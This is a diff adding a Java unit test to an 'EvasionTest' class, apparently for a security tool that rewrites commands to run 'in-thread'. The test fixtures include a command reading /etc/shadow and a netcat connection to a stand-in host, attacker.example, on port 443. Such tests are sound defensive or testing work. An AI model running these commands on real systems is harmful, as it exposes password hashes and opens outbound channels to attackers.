@@ -69,6 +69,14 @@ class EvasionTest {
         assertThat(renamed.preparation().get(0).words()).endsWith("nc").hasSize(4);
     }
 
+    @Test
+    void aSecondThreadRunsTheProgramOrMakesTheCall() {
+        assertThat(words(Evasion.THREAD, command("/bin/cat", "/etc/shadow")))
+                .containsExactly("/usr/bin/kguard-actor", "in-thread", "as", "cat", "/bin/cat", "/etc/shadow");
+        assertThat(words(Evasion.THREAD, command("/usr/lib/kguard/nc", "connect", "attacker.example", "443")))
+                .containsExactly("/usr/lib/kguard/nc", "in-thread", "connect", "attacker.example", "443");
+    }
+
     private static List<String> words(Evasion evasion, CommandLine command) {
         return evasion.rewrite(command).orElseThrow().command().words();
     }
